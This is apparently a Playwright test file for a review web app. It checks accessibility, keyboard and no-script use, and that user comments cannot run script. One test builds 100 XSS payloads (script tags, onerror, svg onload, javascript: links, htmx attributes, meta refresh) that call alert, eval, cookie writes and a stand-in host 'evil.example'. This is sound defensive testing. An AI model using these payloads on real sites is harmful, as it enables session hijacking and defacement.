"""The pages in a real browser: by keyboard, for screen readers, on a phone, without scripts, under attack."""

from __future__ import annotations

import json
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe

from governance_pipeline.vocabulary.review import ReviewStatus
from tests.tiny import change
from tests.web.pages.browser import NEEDS, browsing, sign_in
from tests.web.pages.conftest import Served

pytestmark = [NEEDS, pytest.mark.timeout(180)]

PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
SERIOUS = {"serious", "critical"}


def faults(page: Any) -> list[str]:
    """What axe-core finds that keeps people out (https://github.com/dequelabs/axe-core)."""
    found = Axe().run(page).response["violations"]
    return [
        f"{one['id']}: {node['html']}" for one in found if one["impact"] in SERIOUS for node in one["nodes"]
    ]


@pytest.mark.parametrize("context", [{}, {"color_scheme": "dark"}, PHONE], ids=["light", "dark", "phone"])
def test_no_page_keeps_people_out(served: Served, context: dict[str, Any]) -> None:
    review = f"/reviews/{served.review}"
    with browsing(served.port, **context) as page:
        page.goto(f"http://127.0.0.1:{served.port}/sign-in")
        assert faults(page) == []
        sign_in(page, served.port, "Lea Stern")
        for path in ("/", "/reviews", review, f"{review}?done=decide", "/reviews/none"):
            page.goto(f"http://127.0.0.1:{served.port}{path}")
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            assert faults(page) == [], path
            wide = "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
            assert page.evaluate(wide), f"{path} is wider than the screen"


def test_a_decision_is_made_by_keyboard_alone(served: Served) -> None:
    with browsing(served.port) as page:
        sign_in(page, served.port, "Lea Stern", f"/reviews/{served.review}")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
        _tab_to(page, "input[name=verdict]")
        page.keyboard.press("Space")
        _tab_to(page, "#reason")
        page.keyboard.type("I have read the evidence.")
        _tab_to(page, ".decide button")
        page.keyboard.press("Enter")
        page.get_by_text("Your decision is recorded.").wait_for()
    assert served.state.decisions[0].person == "lea"


def _tab_to(page: Any, selector: str, most: int = 120) -> None:
    for _ in range(most):
        page.keyboard.press("Tab")
        if page.evaluate("selector => document.activeElement.matches(selector)", selector):
            return
    pytest.fail(f"{selector} is not reached by keyboard")


def test_everything_can_be_read_and_decided_without_scripts(served: Served) -> None:
    with browsing(served.port, java_script_enabled=False) as page:
        sign_in(page, served.port, "Lea Stern", f"/reviews/{served.review}")
        assert page.get_by_role("heading", name="What was found").is_visible()
        page.get_by_label("Say something").fill("Which rows are meant?")
        page.get_by_role("button", name="Comment").click()
        assert page.get_by_text("Which rows are meant?").is_visible()
        page.get_by_label("Reject").check()
        page.locator("#reason").fill("It may not go ahead.")
        page.get_by_role("button", name="Record my decision").click()
        assert page.get_by_text("Your decision is recorded.").is_visible()
    assert served.state.status is ReviewStatus.REJECTED


def test_a_comment_takes_nothing_from_a_decision_that_is_half_written(served: Served) -> None:
    with browsing(served.port) as page:
        sign_in(page, served.port, "Lea Stern", f"/reviews/{served.review}")
        page.locator("#reason").fill("Half a thought")
        page.get_by_label("Say something").fill("One question first.")
        page.get_by_role("button", name="Comment").click()
        page.locator(".comment").get_by_text("One question first.").wait_for()
        assert page.locator("#reason").input_value() == "Half a thought"


SCRIPTS = (
    "document.title='owned'", "window.owned=1", "fetch('/sign-out',{method:'POST'})", "alert(1)",
    "document.body.remove()", "location='//evil.example'", "eval('window.owned=1')", "top.owned=1",
    "import('//evil.example')", "document.cookie='a=b'",
)  # fmt: skip
FORMS = (
    "<script>@</script>",
    '<img src=x onerror="@">',
    '"><svg onload="@">',
    "'><body onpageshow='@'>",
    '<a href="javascript:@">x</a>',
    "</textarea><script>@</script>",
    "{{@}}{%@%}",
    '<iframe srcdoc="<script>@</script>">',
    '<div hx-on:load="@" hx-get="/sign-out" hx-trigger=load>x</div>',
    (
        "<meta http-equiv=refresh content=0;url=//evil.example>"
        "<style>*{background:url(//evil.example)}/*@*/</style>"
    ),
)
PAYLOADS = [form.replace("@", script) for form in FORMS for script in SCRIPTS]


def test_no_script_in_what_people_write_is_run(served: Served) -> None:
    assert len(set(PAYLOADS)) == 100
    lea, ben = served.visit("lea"), served.visit("ben")
    token = lea.token()
    for payload in PAYLOADS:
        answer = lea.post(f"/reviews/{served.review}/comment", {"token": token, "text": payload})
        assert answer.status == 303
    ben.act(served.review, "withdraw", reason=PAYLOADS[0])
    ben.act(served.review, "reopen", reason=PAYLOADS[2])
    change(served.root, "charter.yaml", "name: Pax Vos", f"name: {json.dumps(PAYLOADS[10])}")
    with browsing(served.port) as page:
        dialogs: list[object] = []
        page.on("dialog", lambda one: dialogs.append(one.message))
        elsewhere: list[str] = []
        page.on("request", lambda one: elsewhere.append(one.url) if "evil" in one.url else None)
        sign_in(page, served.port, "Lea Stern", f"/reviews/{served.review}")
        for path in (f"/reviews/{served.review}", "/reviews", "/", "/sign-in"):
            page.goto(f"http://127.0.0.1:{served.port}{path}")
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.owned") is None
            assert "owned" not in page.title()
        page.goto(f"http://127.0.0.1:{served.port}/reviews/{served.review}")
        assert page.locator(".comment").count() == 100
        assert page.locator(".comment .said").first.inner_text() == PAYLOADS[0]
        assert (dialogs, elsewhere) == ([], [])


def test_what_is_printed_has_the_findings_and_no_form(served: Served) -> None:
    with browsing(served.port) as page:
        sign_in(page, served.port, "Lea Stern", f"/reviews/{served.review}")
        page.emulate_media(media="print")
        assert page.get_by_role("heading", name="What was found").is_visible()
        assert not page.get_by_role("button", name="Record my decision").is_visible()
